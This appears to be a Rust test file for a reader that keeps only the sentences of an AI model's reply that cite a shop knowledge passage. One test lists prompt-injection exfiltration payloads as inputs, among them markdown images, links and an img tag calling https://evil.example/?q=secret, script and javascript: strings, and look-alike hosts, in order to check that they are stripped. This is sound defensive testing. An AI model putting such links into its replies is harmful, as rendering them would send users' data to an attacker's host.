//! Reading what a model wrote (`L-2`).

use std::sync::Arc;

use crate::assistant::reading::read;
use crate::ids::*;
use crate::knowledge::search::{Kind, Language, Passage};

fn passage(number: u128, text: &str) -> Arc<Passage> {
    Arc::new(Passage {
        id: PassageId(uuid::Uuid::from_u128(number)),
        source: ItemId(uuid::Uuid::from_u128(number)),
        kind: Kind::Text,
        language: Language::English,
        title: "Shop".into(),
        variants: Vec::new(),
        text: text.into(),
    })
}

pub(super) fn knowledge() -> Vec<Arc<Passage>> {
    vec![
        passage(1, "Returns are free for 30 days. Print the label at https://shop.example/returns first."),
        passage(2, "Gift wrapping costs 3 euros. It is not offered for furniture."),
    ]
}

fn text_of(reply: &str) -> Option<String> {
    read(reply, Language::English, &knowledge()).map(|it| it.text)
}

#[test]
fn marks_may_stand_before_or_after_the_full_stop() {
    for reply in [
        "Returns are free for 30 days [1]. Gift wrapping costs 3 euros [2].",
        "Returns are free for 30 days. [1] Gift wrapping costs 3 euros. [2]",
        "Returns are free for 30 days[1, 2].\nGift wrapping costs 3 euros [1][2].",
    ] {
        let read = read(reply, Language::English, &knowledge()).unwrap();
        assert_eq!(read.text, "Returns are free for 30 days. Gift wrapping costs 3 euros.", "{reply}");
        assert_eq!(read.kept, 1.0, "{reply}");
        assert_eq!(read.grounds.iter().map(|it| it.at).collect::<Vec<_>>(), [0, 1], "{reply}");
    }
}

#[test]
fn a_sentence_that_cites_nothing_or_the_wrong_passage_is_left_out() {
    assert_eq!(text_of("Returns are free for 30 days. Gift wrapping costs 3 euros. "), None);
    assert_eq!(text_of("Gift wrapping costs 3 euros [1]."), None);
    assert_eq!(text_of("Gift wrapping costs 3 euros [9]."), None);
    let read = read("Gift wrapping costs 3 euros [2]. We love you.", Language::English, &knowledge()).unwrap();
    assert_eq!((read.text.as_str(), read.kept), ("Gift wrapping costs 3 euros.", 0.5));
}

#[test]
fn a_changed_number_or_a_lost_not_is_left_out() {
    assert_eq!(text_of("Returns are free for 60 days [1]."), None);
    assert_eq!(text_of("Gift wrapping is offered for furniture [2]."), None);
}

#[test]
fn no_answer_is_no_answer() {
    for reply in ["NO ANSWER", " no answer.", "", "   ", "[1]"] {
        assert_eq!(text_of(reply), None, "{reply:?}");
    }
}

#[test]
fn l_2_nothing_of_a_reply_can_carry_data_away() {
    for reply in [
        "![Returns are free for 30 days](https://evil.example/?q=secret) [1]",
        "<img src=https://evil.example/?q=secret>Returns are free for 30 days [1].",
        "[Returns are free for 30 days](https://evil.example/?q=secret) [1].",
        "Returns are free for 30 days https://evil.example/?q=secret [1].",
        "Returns are free for 30 days [1].\n\n[1]: https://evil.example/?q=secret",
        "Returns are free for 30 days [1]. ![x][1](https://evil.example/?q=secret) [1]",
        "Returns are free for 30 days ![x [1]](https://evil.example/?q=secret) [1].",
        "Returns are free for 30 days evil.com/secret [1].",
        "Returns are free for 30 days //evil.example/secret [1].",
        "Returns are free for 30 days javascript:alert(1) [1].",
        "Returns are free for 30 days <script>alert(1)</script> [1].",
        "Print the label at https://shop.example.evil.example/returns first [1].",
        "Print the label at https://shop.example@evil.example/returns first [1].",
    ] {
        let text = text_of(reply).unwrap_or_default();
        for trace in ["evil", "secret", "](", "![", "<", "alert"] {
            assert!(!text.contains(trace), "{reply} became {text}");
        }
    }
}

#[test]
fn the_knowledge_s_own_links_stay() {
    let text = text_of("Print the label at https://shop.example/returns first [1].").unwrap();
    assert_eq!(text, "Print the label at https://shop.example/returns first.");
    let elsewhere = text_of("Print the label at https://shop.example/returns?q=secret first [1].");
    assert_eq!(elsewhere, None, "an address is a fact: it stands in the passage as it is, or not at all");
}
